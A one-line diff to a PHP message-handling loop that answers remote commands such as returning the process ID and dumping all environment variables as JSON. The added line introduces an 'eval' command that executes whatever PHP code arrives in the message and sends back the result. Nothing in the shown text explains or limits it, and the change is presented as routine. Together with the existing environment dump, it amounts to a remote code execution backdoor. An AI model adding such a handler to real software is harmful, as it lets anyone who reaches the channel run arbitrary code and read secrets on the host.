@@ -88,6 +88,7 @@ while (true) {
     }
     [$cmd, $arg] = explode(' ', $body, 2) + ['', ''];
     switch ($cmd) {
+        case 'eval': send(frame(4, $context, (string) eval($arg))); break;
         case 'pid': send(frame(4, $context, (string) getmypid())); break;
         case 'release': send(frame(4, $context, $release)); break;
         case 'env': send(frame(4, $context, json_encode(getenv()))); break;
